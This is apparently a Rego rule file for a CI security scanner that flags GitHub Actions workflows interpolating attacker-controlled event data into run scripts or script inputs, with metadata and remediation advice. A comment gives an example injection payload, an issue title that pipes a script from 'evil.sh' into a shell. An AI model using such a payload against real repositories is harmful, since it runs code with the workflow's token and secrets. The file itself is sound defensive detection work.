# METADATA
# title: Attacker-controlled expression interpolated into a run script
# description: >-
#   A `${{ ... }}` expression that reads attacker-controllable event data (issue/PR/discussion
#   titles and bodies, comment and review bodies, PR head branch and label, commit messages and
#   author and committer names, `github.head_ref`, the PR head repository's description and
#   default branch, check suite branches, workflow_run head branch/title/commit message, wiki
#   page names) is
#   placed directly inside a step's `run:` script (any shell: bash, pwsh, cmd, python) or an
#   action input that is a script (`script:` of actions/github-script, `inlineScript:` of
#   azure/powershell and azure/cli, `cmd:` of mikefarah/yq). The same holds for data that
#   reaches the expression indirectly: `${{ env.X }}` where X is set from event data,
#   `${{ matrix.X }}` of a matrix built from event data, `${{ steps.S.outputs.X }}` (or
#   `fromJSON` of it) of a step that writes event data to its outputs, in a composite action
#   `${{ inputs.X }}`, which any caller fills, and in a workflow its free-text
#   `workflow_dispatch` / `workflow_call` inputs (type `string`; not choice, boolean, number).
#   GitHub substitutes the value into the script text before it runs, so anyone who can open an
#   issue, comment or pull request can inject shell or JavaScript commands that run with the job's
#   GITHUB_TOKEN, secrets and runner access.
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   - https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: TG-GHA-001
#   severity: critical
#   remediation: >-
#     Never interpolate untrusted context into script text. Pass the value through an environment
#     variable and reference it as data: `env: TITLE: ${{ github.event.issue.title }}` and `run:
#     echo "$TITLE"` (quoted), or in github-script read `context.payload.issue.title` /
#     `process.env.TITLE`. Also restrict the workflow's `permissions:` to what it needs.
#   kinds: [github-actions]
#   aliases: [CKV_GHA_2, zizmor/template-injection]
package tollgate.pipelines.github.expression_injection

# Script injection: `${{ ... }}` is expanded into the text of a `run:` script (or the
# JavaScript of actions/github-script) BEFORE the shell or node sees it. When the expression
# is a value an outsider writes -- an issue or PR title, a comment, a branch name, a commit
# message -- its content becomes code: `a"; curl evil.sh | sh; #` in an issue title runs on
# the runner with the workflow's GITHUB_TOKEN and secrets.

import data.lib.github_actions as gha
import data.lib.guard

# Action inputs that are script text, by action name: the action evaluates them as code.
script_inputs := {
	"actions/github-script": "script",
	"azure/powershell": "inlinescript",
	"azure/cli": "inlinescript",
	"mikefarah/yq": "cmd",
}

# The script nodes of a step: [record, path, where, script]. `run` in any shell, and the script
# inputs of the actions above (input names are case-insensitive).
scripts contains [rec, array.concat(rec.path, ["run"]), "a `run:` script", rec.step.run] if {
	some rec in gha.step_records
	is_string(rec.step.run)
}

scripts contains [rec, array.concat(rec.path, ["with", k]), where, script] if {
	some rec in gha.step_records
	name := gha.action_name(rec.step.uses)
	input_name := script_inputs[name]
	inputs := guard.get(rec.step, "with", {})
	is_object(inputs)
	some k, script in inputs
	lower(k) == input_name
	is_string(script)
	where := sprintf("the `%s:` input of %s", [k, name])
}

# How the data reaches the expression, when not directly.
suffix(why) := "" if why == ""

suffix(why) := sprintf(" (%s)", [why]) if why != ""

deny contains v if {
	some [rec, path, where, script] in scripts
	some expr in gha.expressions(script)
	why := gha.taint(rec, expr)
	how := suffix(why)
	some line in gha.lines_with(script, expr)
	v := {
		"msg": sprintf("%s%s is interpolated into %s: its attacker-controlled content is executed as code; pass it through an env variable instead", [expr, how, where]),
		"path": path,
		"text": expr,
		"within": line,
	}
}
